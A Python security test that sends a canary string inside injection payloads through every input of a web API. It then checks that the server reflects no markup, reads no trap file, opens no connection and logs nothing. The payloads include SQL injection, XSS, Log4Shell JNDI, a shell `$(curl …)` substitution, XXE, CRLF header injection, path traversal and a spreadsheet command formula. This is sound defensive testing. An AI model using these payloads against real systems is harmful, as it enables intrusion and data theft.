"""A secret and hostile texts in every string that a client can send: where do they reappear?

In no line of the log, in no answer as markup, in no connection that the server opens, in no file that it reads.
"""

import io
import json
import os
import socket
import tempfile
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import pyarrow as pa

from service.wire.media_types import ARROW_STREAM, CSV, JSON, PARQUET
from tests.e2e.wire import Connection, request
from tests.properties.bodies import arrow_body, parquet_body
from tests.support import processes
from tests.support.attacks.found import Found
from tests.support.clients import Answer, wrong_with
from tests.support.servers import Service, serving

SECRET = "canary-7f3a91c2"
"""What every text contains."""

TRAP = "trap-contents-5e1d"
"""The content of the file to which the paths lead."""


def texts(trap: Path, port: int) -> dict[str, str]:
    """{what: text}; the port is that of a listener to which nobody has a reason to connect."""
    return {
        "key": f"sk_live_{SECRET}",
        "URL": f"http://127.0.0.1:{port}/{SECRET}",
        "file URL": f"file://{trap}#{SECRET}",
        "path": f"../../../../../../../..{trap}?{SECRET}",
        "absolute path": f"{trap}",
        "SQL": f"'; DROP TABLE users; -- {SECRET}",
        "script": f"<script>alert('{SECRET}')</script>",
        "attribute": f'"><img src=x onerror={SECRET}>',
        "template": f"{{{{7*7}}}}${{7*7}}{SECRET}",
        "log": f"${{jndi:ldap://127.0.0.1:{port}/{SECRET}}}",
        "shell": f"$(curl http://127.0.0.1:{port}/{SECRET}); `id`",
        "entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{trap}">]><a>&x;{SECRET}</a>',
        "line": f"{SECRET}\r\nX-Injected: {SECRET}\r\n\r\n<script>",
        "format": f"%s%n{{0.__class__}}{SECRET}",
        "formula": f"=cmd|'/c calc'!{SECRET}",
        "Unicode": f"\u202e{SECRET}\ufeff\u0000",
    }


@dataclass(frozen=True)
class Sent:
    """A message with a text in one of its places."""

    where: str
    data: bytes


def messages(text: str) -> Iterator[Sent]:
    """The text in every place that accepts one."""
    header = text.encode("ascii", "ignore").decode().replace("\r", "").replace("\n", "").replace("\0", "")
    path = quote(text, safe="")
    sample = {"scores": [0.9, 0.4], "labels": [1, 0]}
    yield Sent("path", request("GET", f"/{path}"))
    yield Sent("path, as it is", request("GET", f"/{header.replace(' ', '%20')}"))
    yield Sent("problem", request("GET", f"/problems/{path}"))
    yield Sent("docs", request("GET", f"/docs/{path}"))
    yield Sent("method", request(header.replace(" ", "") or "X", "/v1/curves"))
    for name in ("include", "keep", "labels", "scores", "positive_label", path):
        yield Sent(
            f"query {name}",
            request("POST", f"/v1/curves?{name}={path}", b"scores,labels\n1,1\n0,0\n", Content_Type=CSV),
        )
    for name in (
        "Authorization", "Cookie", "User_Agent", "Referer", "Origin", "Accept", "Accept_Encoding", "Accept_Language",
        "Content_Encoding", "X_Request_ID", "X_Forwarded_For", "X_Forwarded_Host", "Forwarded", "Host", "Range",
        "If_Match",
    ):  # fmt: skip
        yield Sent(
            f"header {name}", request("POST", "/v1/curves", _json(sample), **{"Content_Type": JSON, name: header})
        )
    yield Sent("header Bearer", request("GET", "/metrics", Authorization=f"Bearer {header}"))
    yield Sent("header Content-Type", request("POST", "/v1/curves", b"x", Content_Type=header))
    yield Sent("header's name", request("GET", "/health/live")[:-2] + header.encode() + b": x\r\n\r\n")
    documents = {
        "member": sample | {text: text},
        "scores": {"scores": text, "labels": [1, 0]},
        "score": {"scores": [text, 1], "labels": [1, 0]},
        "labels": {"scores": [1, 2, 3], "labels": [text, "other", "third"]},
        "labels that are right": {"scores": [1, 2], "labels": [text, "other"], "positive_label": text},
        "positive_label": sample | {"positive_label": text},
        "include": sample | {"include": [text]},
        "keep": sample | {"keep": text},
        "counts": {"counts": {text: text, "tp": [text]}},
    }
    for name, document in documents.items():
        yield Sent(f"JSON {name}", request("POST", "/v1/curves", _json(document), Content_Type=JSON))
    named = {"evaluations": [{"name": text, **sample}, {"name": "other", **sample, "scores": [0.1, 0.2]}]}
    yield Sent("JSON name", request("POST", "/v1/comparisons", _json(named), Content_Type=JSON))
    yield Sent(
        "JSON name, CSV out", request("POST", "/v1/comparisons?table=best", _json(named), Content_Type=JSON, Accept=CSV)
    )
    rules = {
        "rule": [{text: text}],
        "metric": [{"metric": text, "min": 0.5}],
        "rules": text,
    }
    for name, wanted in rules.items():
        yield Sent(f"JSON {name}", request("POST", "/v1/gates", _json(sample | {"rules": wanted}), Content_Type=JSON))
    for name in ("rules", "baseline_scores", "fail_status"):
        yield Sent(
            f"query {name}",
            request("POST", f"/v1/gates?{name}={path}", b"scores,labels\n1,1\n0,0\n", Content_Type=CSV),
        )
    yield Sent("no JSON", request("POST", "/v1/curves", text.encode(), Content_Type=JSON))
    cell = '"' + text.replace('"', '""') + '"'
    for name, table in {
        "column": f"{cell},labels\n1,1\n",
        "cell": f"scores,labels\n{cell},1\n",
        "label": f"scores,labels\n1,{cell}\n2,a\n3,b\n",
    }.items():
        yield Sent(f"CSV {name}", request("POST", "/v1/curves", table.encode(), Content_Type=CSV))
    columns = pa.table({text: [1.0, 2.0], "labels": [text, "b"]})
    for kind, body in ((ARROW_STREAM, arrow_body(columns)), (PARQUET, parquet_body(columns))):
        for name in ("labels=labels", f"scores={path}", f"scores={path}&positive_label={path}"):
            yield Sent(
                f"{kind} {name.partition('=')[0]}", request("POST", f"/v1/curves?{name}", body, Content_Type=kind)
            )
    form = f'--b\r\nContent-Disposition: form-data; name="f"; filename="{header}"\r\n\r\n{text}\r\n--b--\r\n'.encode()
    yield Sent("upload", request("POST", "/v1/curves", form, Content_Type="multipart/form-data; boundary=b"))
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(text.replace("\0", ""), text)
    yield Sent("archive", request("POST", "/v1/curves", packed.getvalue(), Content_Type="application/zip"))


def _json(document: object) -> bytes:
    return json.dumps(document).encode()


def sing(service: Service, port: int, trap: Path) -> tuple[Found, int]:
    """Send all of them; the log is for the caller."""
    found, sent = Found(), 0
    for what, text in texts(trap, port).items():
        for message in messages(text):
            sent += 1
            where = f"{what} in {message.where}"
            try:
                with Connection(service.port) as connection:
                    answer = connection.send(message.data).read()
            except (AssertionError, OSError, ValueError) as error:
                found.missed.append(f"{where}: {error!r}"[:300])
                continue
            found.missed += [f"{where}: {why}" for why in wrong_in(Answer(answer.status, answer.headers, answer.body))]
    return found, sent


def wrong_in(answer: Answer) -> Iterator[str]:
    """What an answer must not contain."""
    kind = answer.headers.get("content-type", "").partition(";")[0]
    if why := wrong_with(answer):
        yield why
    if answer.status == 503:
        yield "503"
    if TRAP.encode() in answer.body or b"root:x:" in answer.body:
        yield "it holds what stands in a file"
    if kind == "text/html" and SECRET.encode() in answer.body:
        yield "it is HTML and holds the text"
    if any(SECRET in value or "injected" in name for name, value in answer.headers.items() if name != "x-request-id"):
        yield f"a header holds the text: {answer.headers}"
    if answer.headers.get("x-content-type-options") != "nosniff" and SECRET.encode() in answer.body and kind != JSON:
        yield f"{kind} holds the text, and a browser may take it for markup"


def run() -> Found:
    """Send all texts, in all places, to a server that logs as much as it can."""
    with tempfile.TemporaryDirectory(prefix="rocpr-soak-") as directory:
        trap = Path(directory) / "trap"
        trap.write_text(TRAP)
        os.utime(trap, (1, trap.stat().st_mtime))  # a read would set the time of access, if the system keeps it
        with _listener() as (listener, port), serving(log_level="debug") as service:
            before = _ends(service)
            found, sent = sing(service, port, trap)
            found.require(_ends(service) <= before, f"connections: {_ends(service) - before}")
            found.require(_silent(listener), "somebody connected to the URL")
            found.require(str(trap) not in processes.descriptors(service.tree()), "the trap is open")
            log = service.log.read_text("utf-8", "replace")
            found.require(not service.failures(), f"the log: {service.failures()[:1]}")
        found.require(trap.stat().st_atime == 1, "the trap was read")
    lines = [
        line for line in map(_without_id, log.splitlines()) if any(word in line for word in (SECRET, TRAP, str(trap)))
    ]
    found.missed += [f"the log: {line[:300]}" for line in lines]
    found.done = f"{len(texts(trap, 1))} texts in {sent // len(texts(trap, 1))} places each, the log at debug"
    found.figures = {
        "requests": f"{sent:,}",
        "lines of the log": f"{len(log.splitlines()):,}",
        "with a text": str(len(lines)),
    }
    return found


def _without_id(line: str) -> str:
    """A line without the request's id, which a client may choose: that is what X-Request-ID is for."""
    if not line.startswith("{"):
        return line
    return json.dumps(json.loads(line) | {"id": ""})


def _ends(service: Service) -> set[tuple[int, int]]:
    """The connections that the server opened, without those of its listener."""
    return {(own, other) for own, other in processes.connections(service.tree()) if own != service.port}


@contextmanager
def _listener() -> Iterator[tuple[socket.socket, int]]:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.settimeout(0)
        yield listener, int(listener.getsockname()[1])


def _silent(listener: socket.socket) -> bool:
    try:
        listener.accept()[0].close()
    except BlockingIOError:
        return True
    return False
